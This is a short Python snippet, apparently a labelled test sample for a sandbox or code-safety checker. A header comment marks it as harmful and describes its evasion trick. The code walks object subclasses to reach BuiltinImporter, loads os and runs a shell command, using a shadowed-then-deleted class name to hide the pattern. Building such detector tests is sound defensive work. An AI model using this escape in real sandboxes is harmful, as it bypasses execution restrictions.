# HARM: object-graph escape to os via BuiltinImporter -> os.system | TRICK: walk(cls=object) helper whose default names a file-local class `object` that is deleted before use
class object:
    pass


def walk(cls):
    for sub in cls.__subclasses__():
        yield sub


del object
for c in walk(object):
    if c.__name__ == "BuiltinImporter":
        c.load_module("os").system("id")
